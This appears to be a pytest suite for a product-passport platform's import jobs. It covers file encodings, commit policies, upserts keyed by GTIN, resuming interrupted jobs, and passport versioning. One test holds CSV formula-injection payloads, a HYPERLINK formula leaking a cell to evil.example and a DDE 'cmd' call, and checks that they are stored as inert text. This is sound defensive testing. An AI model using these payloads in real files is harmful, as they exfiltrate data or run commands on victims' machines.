"""Import jobs end to end on the database: modes, policies, natural keys, resuming, error reports."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.files.base import ContentFile, File

from passports.documents import content_hash, effective_data
from passports.imports.services import (
    ImportRejectedError,
    LeaseLostError,
    _locked,
    import_job_create,
    import_job_run,
)
from passports.models import CompanyPrefix, ImportJob, Passport, PassportVersion, Product
from passports.schema_files import EXAMPLES_DIR
from passports.services.passports import passport_publish
from tests.factories import FacilityFactory, OrganizationFactory, ProductFactory, gtin_from

pytestmark = pytest.mark.django_db

DATA = Path(__file__).resolve().parents[1] / "data" / "imports"
HEADER = "gtin,name,name_ko,category,cn_code\r\n"


def gtin(n: int) -> str:
    """The GTINs of tests/data/imports (0880 + 9 digits + check digit), as tests/factories makes them."""
    return gtin_from(n)


def upload(source: str | bytes, name: str | None = None) -> File[Any]:
    if isinstance(source, bytes):
        return ContentFile(source, name=name or "upload.csv")
    return File(io.BytesIO((DATA / source).read_bytes()), name=name or source)


def run(tenant: Any, source: str | bytes, kind: str = "products", name: str | None = None, **options: Any) -> ImportJob:
    runs = options.pop("runs", None)
    job = import_job_create(
        org=tenant.org, by=tenant.owner, upload=upload(source, name), kind=kind, enqueue=False, **options
    )
    if runs is None:
        return import_job_run(job_id=job.pk)
    for budget in runs:
        job = import_job_run(job_id=job.pk, max_chunks=budget)
    return job


def products_csv(rows: list[tuple[int, str]], header: str = HEADER) -> bytes:
    body = "".join(f"{gtin(n)},{name},{name} 한국어,battery,85076000\r\n" for n, name in rows)
    return (header + body).encode()


# --------------------------------------------------------------------------------------------------
# Formats


@pytest.mark.parametrize(
    "name",
    [
        "products-utf8.csv",
        "products-utf8-bom-semicolon.csv",
        "products-cp949.csv",
        "products-euc-kr-tab.tsv",
        "products-utf16le-tab.txt",
        "products-utf16be-semicolon.csv",
    ],
)
def test_every_encoding_and_delimiter_gives_the_same_products(tenant: Any, name: str) -> None:
    job = run(tenant, name, mode="commit")
    assert (job.status, job.rows_total, job.rows_done, job.rows_created, job.rows_rejected) == ("done", 20, 20, 20, 0)
    assert job.committed
    names = dict(Product.objects.filter(organization=tenant.org).values_list("gtin", "name_ko"))
    assert names[gtin(1)] == "면 티셔츠 1"
    assert names[gtin(2)] == "철근 B500B 2"
    assert len(names) == 20


def test_korean_headers_quoted_newlines_trailing_blanks_and_a_workbook(tenant: Any) -> None:
    korean = run(tenant, "products-korean-headers-cp949.csv", mode="commit")
    assert (korean.rows_created, korean.rows_rejected) == (5, 0)
    quoted = run(tenant, "products-quoted-newlines.csv", mode="commit")
    assert (quoted.rows_total, quoted.rows_updated, quoted.rows_created) == (6, 5, 1)
    assert Product.objects.get(gtin=gtin(2)).description == 'Line one of 2\nline two, with a comma\nand "quotes"'
    blank = run(tenant, "products-trailing-blank.csv", mode="commit")
    assert (blank.rows_total, blank.rows_done) == (5, 5)
    workbook = run(tenant, "products.xlsx", mode="commit")
    assert (workbook.file_format, workbook.rows_created, workbook.rows_rejected) == ("xlsx", 8, 0)
    assert Product.objects.get(gtin=gtin(300).lstrip("0")).expected_lifetime_years == 11  # typed as a number


def test_a_gtin_that_lost_its_leading_zero_in_excel_matches_the_same_product(tenant: Any) -> None:
    run(tenant, products_csv([(300, "from csv")]), mode="commit")
    job = run(tenant, "products.xlsx", mode="commit")  # its first row holds gtin(300) typed as a number
    assert (job.rows_created, job.rows_updated) == (7, 1)
    product = Product.objects.get(organization=tenant.org, gtin=gtin(300))  # the first spelling is kept
    assert product.name == "LFP battery pack 48 V 300"
    assert not Product.objects.filter(gtin=gtin(300).lstrip("0")).exists()


def test_formula_like_cells_are_stored_as_text(tenant: Any) -> None:
    run(tenant, "products-formulas.csv", mode="commit")
    stored = set(Product.objects.values_list("name", flat=True))
    assert {'=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"} <= stored


def test_a_row_in_another_encoding_past_the_sample_is_rejected_alone(tenant: Any) -> None:
    """A file pasted together from two sources: UTF-8 for 300 KB, then one CP949 row."""
    long_text = "고정형 에너지 저장 장치 설명 " * 150  # ~3 KB per row, so 100 rows pass the 256 KB sample
    rows = "".join(f'{gtin(n)},ok {n},배터리,battery,85076000,"{long_text}"\r\n' for n in range(1, 101))
    data = (HEADER.strip() + ",description_ko\r\n" + rows).encode()
    data += f"{gtin(200)},bad,전지,battery,85076000,x\r\n".encode("cp949")
    data += f"{gtin(201)},ok,팩,battery,85076000,x\r\n".encode()
    job = run(tenant, data, mode="commit", policy="valid_rows")
    assert (job.encoding, job.rows_created, job.rows_rejected) == ("utf-8", 101, 1)
    error = job.row_errors.get()
    assert (error.row, error.rule) == (102, "encoding")
    assert "not valid UTF-8" in error.message_en


# --------------------------------------------------------------------------------------------------
# Modes and policies


def test_dry_run_stores_nothing_and_says_what_would_happen(tenant: Any) -> None:
    job = run(tenant, "products-5pct-bad.csv")
    assert (job.mode, job.status, job.committed) == ("dry_run", "done", False)
    assert (job.rows_total, job.rows_created, job.rows_updated, job.rows_rejected) == (200, 190, 0, 10)
    assert not Product.objects.exists()
    assert job.row_errors.count() == 10
    assert job.preview[0] == {"row": 2, "action": "create", "key": gtin(1)}
    assert {"row": 21, "action": "reject", "key": gtin(20)} in job.preview


def test_bad_rows_are_named_by_row_column_value_and_message_in_both_languages(tenant: Any) -> None:
    job = run(tenant, "products-5pct-bad.csv", mode="commit", policy="valid_rows")
    errors = {(e.row, e.column): e for e in job.row_errors.all()}
    # Rows 21, 81, 141 (every 60th product, 20 + 60k, plus the header row) lack their name.
    assert errors[(21, "name")].message_ko == "이 필드는 빈 칸으로 둘 수 없습니다."
    assert errors[(41, "cn_code")].value == "8507"
    assert "8-digit" in errors[(41, "cn_code")].message_en
    assert errors[(61, "gtin")].pointer == "/gtin"
    assert sorted(row for row, _ in errors) == [21, 41, 61, 81, 101, 121, 141, 161, 181, 201]


def test_all_or_nothing_with_one_bad_row_stores_nothing(tenant: Any) -> None:
    job = run(tenant, "products-5pct-bad.csv", mode="commit", policy="all_or_nothing")
    assert (job.status, job.error_code, job.committed) == ("failed", "rows_rejected", False)
    assert "10 rows" in job.error_en
    assert "10개" in job.error_ko
    assert not Product.objects.exists()
    assert job.row_errors.count() == 10


def test_valid_rows_stores_the_good_ones(tenant: Any) -> None:
    job = run(tenant, "products-5pct-bad.csv", mode="commit", policy="valid_rows")
    assert (job.status, job.rows_created, job.rows_rejected, job.committed) == ("done", 190, 10, True)
    assert Product.objects.filter(organization=tenant.org).count() == 190


def test_all_or_nothing_with_a_clean_file_stores_everything_in_one_pass_after_the_check(tenant: Any) -> None:
    job = run(tenant, "products-utf8.csv", mode="commit", policy="all_or_nothing", chunk_rows=7)
    assert (job.status, job.rows_created, job.committed, job.phase) == ("done", 20, True, "")
    assert Product.objects.count() == 20


# --------------------------------------------------------------------------------------------------
# Natural keys


def test_uploading_the_same_file_again_updates_and_duplicates_nothing(tenant: Any) -> None:
    first = run(tenant, "products-utf8.csv", mode="commit")
    before = {p.gtin: (p.pk, p.updated_at) for p in Product.objects.all()}
    second = run(tenant, "products-utf8.csv", mode="commit")
    assert (first.rows_created, second.rows_created, second.rows_updated) == (20, 0, 20)
    assert {p.gtin: (p.pk, p.updated_at) for p in Product.objects.all()} == before  # same rows, unchanged


def test_an_overlapping_file_creates_the_new_keys_and_updates_the_known(tenant: Any) -> None:
    run(tenant, products_csv([(n, f"first {n}") for n in range(1, 21)]), mode="commit")
    job = run(tenant, products_csv([(n, f"second {n}") for n in range(11, 31)]), mode="commit")
    assert (job.rows_created, job.rows_updated) == (10, 10)
    assert Product.objects.count() == 30
    assert Product.objects.get(gtin=gtin(5)).name == "first 5"
    assert Product.objects.get(gtin=gtin(15)).name == "second 15"


def test_a_key_twice_in_one_file_is_one_product_the_later_row_winning(tenant: Any) -> None:
    job = run(tenant, products_csv([(1, "early"), (2, "other"), (1, "late")]), mode="commit", chunk_rows=2)
    assert (job.rows_created, job.rows_updated) == (2, 1)
    assert Product.objects.get(gtin=gtin(1)).name == "late"


def test_columns_the_file_lacks_are_left_alone_and_empty_cells_clear(tenant: Any) -> None:
    facility = FacilityFactory(organization=tenant.org)
    ProductFactory(organization=tenant.org, gtin=gtin(1), brand="Old", model_name="M1", facility=facility)
    data = f"gtin,brand,facility_gln\r\n{gtin(1)},,{facility.gln}\r\n".encode()
    job = run(tenant, data, mode="commit")
    product = Product.objects.get(gtin=gtin(1))
    assert (job.rows_updated, product.brand, product.model_name, product.facility_id) == (1, "", "M1", facility.pk)
    unknown = run(tenant, f"gtin,facility_gln\r\n{gtin(1)},8800000000009\r\n".encode(), mode="commit")
    assert unknown.row_errors.get().column == "facility_gln"


def test_another_organization_is_never_touched(tenant: Any, other_tenant: Any) -> None:
    ProductFactory(organization=other_tenant.org, gtin=gtin(1), name="theirs")
    # Theirs predates the GS1 Company Prefix registry: the GTIN lies under our prefix alone.
    CompanyPrefix.objects.filter(organization=other_tenant.org).delete()
    run(tenant, products_csv([(1, "ours")]), mode="commit")
    assert Product.objects.get(organization=other_tenant.org).name == "theirs"
    assert Product.objects.get(organization=tenant.org).name == "ours"


# --------------------------------------------------------------------------------------------------
# Resuming


def test_an_interrupted_job_resumes_after_its_last_chunk_and_counts_every_row_once(tenant: Any) -> None:
    job = run(tenant, "products-utf8.csv", mode="commit", policy="valid_rows", chunk_rows=3, runs=[2])
    assert (job.status, job.rows_done, job.rows_created) == ("running", 6, 6)
    assert job.checkpoint["row"] == 7  # header is row 1
    assert Product.objects.count() == 6
    job = import_job_run(job_id=job.pk, max_chunks=3)
    assert (job.rows_done, job.rows_created) == (15, 15)
    job = import_job_run(job_id=job.pk)
    assert (job.status, job.rows_done, job.rows_created, job.rows_updated) == ("done", 20, 20, 0)
    assert Product.objects.count() == 20
    assert import_job_run(job_id=job.pk).updated_at == job.updated_at  # a finished job is left alone


def test_a_rewritten_utf16_file_resumes_at_the_same_bytes(tenant: Any) -> None:
    job = run(tenant, "products-utf16le-tab.txt", mode="commit", policy="valid_rows", chunk_rows=4, runs=[1, 2, None])
    assert (job.status, job.rows_done, job.rows_created) == ("done", 20, 20)
    assert sorted(Product.objects.values_list("name_ko", flat=True))[:2] == [
        "LFP 배터리 팩 48 V 12",
        "LFP 배터리 팩 48 V 16",
    ]


def test_a_resumed_dry_run_remembers_what_its_earlier_rows_would_create(tenant: Any) -> None:
    data = products_csv([(1, "a"), (2, "b"), (3, "c"), (1, "again")])
    job = run(tenant, data, chunk_rows=2, runs=[1, None])
    assert (job.rows_created, job.rows_updated) == (3, 1)
    assert not Product.objects.exists()


def test_a_run_that_lost_its_lease_cannot_commit(tenant: Any) -> None:
    job = run(tenant, "products-utf8.csv", mode="commit", chunk_rows=5, runs=[1])
    stale = job.lease
    job = import_job_run(job_id=job.pk, max_chunks=1)  # a second run takes over
    assert job.lease != stale
    with pytest.raises(LeaseLostError):
        _locked(job.pk, stale)
    assert import_job_run(job_id=job.pk).rows_created == 20


# --------------------------------------------------------------------------------------------------
# Refusals


def test_a_products_file_uploaded_as_battery_passports_is_named_for_what_it_is(tenant: Any) -> None:
    with pytest.raises(ImportRejectedError) as caught:
        run(tenant, "products-utf8.csv", kind="battery")
    assert caught.value.code == "wrong_kind"
    assert "'products'" in caught.value.message_en


@pytest.mark.parametrize(
    ("data", "code", "status"),
    [
        (b"gtin,Farbe,Gewicht\r\n1,rot,2\r\n", "unknown_columns", 400),
        (b"name,brand\r\nx,y\r\n", "missing_key_column", 400),
        (b"gtin,GTIN\r\n1,1\r\n", "duplicate_columns", 400),
        (b"", "empty", 415),
        (b"\x00\x01\x02\x03" * 100, "binary", 415),
    ],
)
def test_files_that_cannot_be_imported_are_refused_before_a_job_exists(
    tenant: Any, data: bytes, code: str, status: int
) -> None:
    with pytest.raises(ImportRejectedError) as caught:
        run(tenant, data)
    assert (caught.value.code, caught.value.status) == (code, status)
    assert caught.value.message_ko
    assert not ImportJob.objects.exists()


def test_junk_and_lying_names_are_refused(tenant: Any) -> None:
    for name in ("junk-image.csv", "junk-binary.csv"):
        with pytest.raises(ImportRejectedError) as caught:
            run(tenant, name)
        assert caught.value.status == 415
    with pytest.raises(ImportRejectedError) as caught:
        run(tenant, "products.xlsx", name="products.csv")
    assert caught.value.code == "type_mismatch"


def test_the_size_limit_is_checked_before_reading(tenant: Any, settings: Any) -> None:
    settings.IMPORT_MAX_UPLOAD_BYTES = 100
    with pytest.raises(ImportRejectedError) as caught:
        run(tenant, "products-utf8.csv")
    assert (caught.value.code, caught.value.status) == ("too_large", 413)


def test_a_saved_mapping_reads_a_partners_own_headers(tenant: Any) -> None:
    from passports.imports.mapping import column_mapping_create

    mapping = column_mapping_create(
        org=tenant.org,
        kind="products",
        name="Partner export",
        mapping={"Artikelnummer": "gtin", "Bezeichnung": "name", "Warengruppe": "category", "Intern": ""},
    )
    data = f"Artikelnummer;Bezeichnung;Warengruppe;Intern\r\n{gtin(7)};Akku;battery;x\r\n".encode()
    job = run(tenant, data, mode="commit", mapping=mapping)
    assert job.mapping_used["Artikelnummer"] == "gtin"
    assert Product.objects.get(gtin=gtin(7)).name == "Akku"
    other = OrganizationFactory()
    with pytest.raises(ImportRejectedError):
        import_job_create(org=other, by=None, upload=upload(data), kind="products", mapping=mapping, enqueue=False)


# --------------------------------------------------------------------------------------------------
# Passports


def _example(name: str) -> dict[str, Any]:
    return json.loads((EXAMPLES_DIR / name).read_text(encoding="utf-8"))


def test_battery_passports_from_a_european_file(tenant: Any) -> None:
    for n in range(3):
        ProductFactory(organization=tenant.org, gtin=gtin(900 + n), category="battery")
    job = run(tenant, "battery-decimal-comma.csv", kind="battery", mode="commit")
    assert (job.delimiter, job.decimal_separator) == (";", ",")
    assert (job.rows_created, job.rows_rejected) == (3, 0)
    version = PassportVersion.objects.get(passport__product__gtin=gtin(901))
    expected = _example("battery-1.0-ev-pack.json")  # 6.850 read as 6850, 0,0355 as 0.0355
    # The file leaves the passport's own identifiers empty: the platform writes them from its Digital Link.
    expected["general_product_information"]["battery_passport_identifier"] = version.passport.identifier
    expected["general_product_information"]["product_identifier"] = f"(01){gtin(901)}"
    assert version.data == expected
    assert version.content_hash == content_hash(version.data)
    assert version.passport.identifier.endswith(f"/01/{gtin(901)}")


def test_textile_passports_one_row_per_fibre_component(tenant: Any) -> None:
    for n in range(2):
        ProductFactory(organization=tenant.org, gtin=gtin(950 + n), category="textile")
    job = run(tenant, "textile-per-row.csv", kind="textile", mode="commit", chunk_rows=2)
    assert (job.rows_done, job.rows_created, job.rows_rejected) == (6, 2, 0)  # 3 rows make one passport
    expected = _example("textile-1.0-recycled-padded-jacket.json")
    for version in PassportVersion.objects.all():
        assert version.data == expected


def test_item_passports_inherit_from_the_model_row_of_the_same_file(tenant: Any) -> None:
    ProductFactory(organization=tenant.org, gtin=gtin(1), category="espr-core")
    model = _example("espr-core-1.0-office-chair.json")
    header = ["gtin", "serial", "product_identification.serial_number"]
    model_columns = [(key, value) for key, value in _flat(model)]
    lines = [
        ",".join(header + [key for key, _ in model_columns]),
        ",".join([gtin(1), "", ""] + [_csv(value) for _, value in model_columns]),
        ",".join([gtin(1), "SN-1", "SN-1"] + [""] * len(model_columns)),
        ",".join([gtin(1), "SN-2", "SN-2"] + [""] * len(model_columns)),
    ]
    job = run(tenant, ("\r\n".join(lines) + "\r\n").encode(), kind="espr-core", mode="commit")
    assert (job.rows_created, job.rows_rejected) == (3, 0), list(job.row_errors.values_list("message_en", flat=True))
    parent = Passport.objects.get(granularity="model")
    item = Passport.objects.get(serial="SN-2")
    version = item.versions.get()
    assert (item.granularity, item.parent_id) == ("item", parent.pk)
    assert version.data == {"product_identification": {"serial_number": "SN-2"}}
    assert version.base_version == parent.versions.get()
    merged = effective_data(version.data, model)
    assert version.content_hash == content_hash(merged)


def test_a_published_passport_gets_a_new_draft_and_keeps_its_published_version(tenant: Any) -> None:
    for n in range(3):
        ProductFactory(organization=tenant.org, gtin=gtin(900 + n), category="battery")
    run(tenant, "battery-decimal-comma.csv", kind="battery", mode="commit")
    passport = Passport.objects.get(product__gtin=gtin(900))
    published = passport_publish(passport=passport)
    changed = (DATA / "battery-decimal-comma.csv").read_bytes().replace(b"96 kWh EV", b"96 kWh EV (2026)")
    job = run(tenant, changed, kind="battery", mode="commit")
    assert (job.rows_created, job.rows_updated) == (0, 3)
    versions = list(passport.versions.order_by("number"))
    assert [(v.number, v.status) for v in versions] == [(1, "published"), (2, "draft")]
    published.refresh_from_db()
    model = "HBE-P96 NMC811 96 kWh EV battery pack"
    assert published.data["general_product_information"]["battery_model"] == model
    assert versions[1].data["general_product_information"]["battery_model"] == model.replace("EV", "EV (2026)")
    other = Passport.objects.get(product__gtin=gtin(901)).versions.get()  # a draft is edited in place
    assert (other.revision, other.data["general_product_information"]["battery_model"]) == (
        2,
        model.replace("EV", "EV (2026)"),
    )


def test_passport_rows_that_cannot_be_matched_or_do_not_validate(tenant: Any, other_tenant: Any) -> None:
    ProductFactory(organization=tenant.org, gtin=gtin(900), category="battery")
    theirs = ProductFactory(organization=other_tenant.org, gtin=gtin(901), category="battery")
    from tests.factories import make_passport

    make_passport(other_tenant.org, product=theirs)
    ProductFactory(organization=tenant.org, gtin=gtin(901), category="battery")
    data = (DATA / "battery-decimal-comma.csv").read_bytes().replace(b";96,0;", b";sechs;", 1)
    job = run(tenant, data, kind="battery", mode="commit", policy="valid_rows")
    errors = {(e.row, e.column_key, e.rule): e for e in job.row_errors.all()}
    assert job.rows_created == 0
    assert ("cell_format" in {rule for _, _, rule in errors}) or ("type" in {rule for _, _, rule in errors})
    assert (3, "serial", "identifier_taken") in errors  # gtin(901)'s passport belongs to another organization
    assert (4, "gtin", "unknown_product") in errors
    assert "GTIN" in errors[(4, "gtin", "unknown_product")].message_en


def _flat(data: Any, prefix: str = "") -> list[tuple[str, Any]]:
    if isinstance(data, dict):
        return [pair for key, value in data.items() for pair in _flat(value, f"{prefix}.{key}" if prefix else key)]
    if isinstance(data, list):
        if not data:
            return [(prefix, "none")]
        return [pair for n, value in enumerate(data, 1) for pair in _flat(value, f"{prefix}.{n}")]
    return [(prefix, data)]


def _csv(value: Any) -> str:
    text = ("true" if value else "false") if isinstance(value, bool) else str(value)
    return f'"{text}"' if any(ch in text for ch in ',"\n') else text


# --------------------------------------------------------------------------------------------------
# Counts of all-or-nothing commits: the writing pass runs after a checking pass that has seen every row, and
# must still count a new key as created (a check pass that leaked what it saw would make every row "updated").


@pytest.mark.parametrize(("chunk_rows", "runs"), [(7, None), (5000, None), (7, [1, None])])
def test_all_or_nothing_counts_new_products_as_created_and_a_second_upload_as_updated(
    tenant: Any, chunk_rows: int, runs: list[int | None] | None
) -> None:
    data = products_csv([(n, f"fresh {n}") for n in range(1, 21)])
    first = run(tenant, data, mode="commit", policy="all_or_nothing", chunk_rows=chunk_rows, runs=runs)
    assert (first.status, first.rows_total, first.rows_created, first.rows_updated) == ("done", 20, 20, 0)
    second = run(tenant, data, mode="commit", policy="all_or_nothing", chunk_rows=chunk_rows, runs=runs)
    assert (second.status, second.rows_created, second.rows_updated) == ("done", 0, 20)
    assert Product.objects.filter(organization=tenant.org).count() == 20


@pytest.mark.parametrize(("chunk_rows", "runs"), [(1, None), (5000, None), (1, [2, None])])
def test_all_or_nothing_counts_new_passports_as_created_and_a_second_upload_as_updated(
    tenant: Any, chunk_rows: int, runs: list[int | None] | None
) -> None:
    for n in range(3):
        ProductFactory(organization=tenant.org, gtin=gtin(900 + n), category="battery")
    options: dict[str, Any] = {"kind": "battery", "mode": "commit", "chunk_rows": chunk_rows, "runs": runs}
    first = run(tenant, "battery-decimal-comma.csv", **options)
    assert (first.status, first.rows_created, first.rows_updated, first.rows_rejected) == ("done", 3, 0, 0)
    second = run(tenant, "battery-decimal-comma.csv", **options)
    assert (second.status, second.rows_created, second.rows_updated) == ("done", 0, 3)
    assert Passport.objects.filter(organization=tenant.org).count() == 3
    assert PassportVersion.objects.filter(organization=tenant.org).count() == 3  # same data: no new version


# --------------------------------------------------------------------------------------------------
# Which passports a job wrote (ImportJob.passports, what a report pack of the import holds)


def _battery_products(tenant: Any) -> set[int]:
    return {ProductFactory(organization=tenant.org, gtin=gtin(900 + n), category="battery").pk for n in range(3)}


def test_a_committing_import_records_the_passports_it_created_and_a_dry_run_none(tenant: Any) -> None:
    products = _battery_products(tenant)
    dry = run(tenant, "battery-decimal-comma.csv", kind="battery")
    assert (dry.rows_created, dry.passports.count()) == (3, 0)
    job = run(tenant, "battery-decimal-comma.csv", kind="battery", mode="commit")
    written = set(Passport.objects.filter(product__in=products).values_list("pk", flat=True))
    assert len(written) == 3
    assert set(job.passports.values_list("pk", flat=True)) == written
    assert run(tenant, "products-utf8.csv", mode="commit").passports.count() == 0


def test_a_second_upload_records_the_passports_it_updated_on_its_own_job(tenant: Any) -> None:
    _battery_products(tenant)
    first = run(tenant, "battery-decimal-comma.csv", kind="battery", mode="commit")
    passport = Passport.objects.get(product__gtin=gtin(900))
    changed = (DATA / "battery-decimal-comma.csv").read_bytes().replace(b"96 kWh EV", b"96 kWh EV (2026)")
    second = run(tenant, changed, kind="battery", mode="commit", policy="valid_rows")
    assert (second.rows_created, second.rows_updated) == (0, 3)
    assert set(second.passports.all()) == set(first.passports.all())
    assert set(passport.import_jobs.all()) == {first, second}


def test_a_resumed_import_records_each_passport_once(tenant: Any) -> None:
    _battery_products(tenant)
    data = (DATA / "battery-decimal-comma.csv").read_bytes()
    header, *rows = data.splitlines(keepends=True)
    again = header + b"".join(rows) + rows[0]  # the first passport's row twice, in another chunk
    job = run(tenant, again, kind="battery", mode="commit", policy="valid_rows", chunk_rows=1, runs=[2, 1, None])
    assert (job.status, job.rows_created, job.rows_updated) == ("done", 3, 1)
    assert job.passports.count() == 3
    assert ImportJob.passports.through.objects.filter(importjob=job).count() == 3
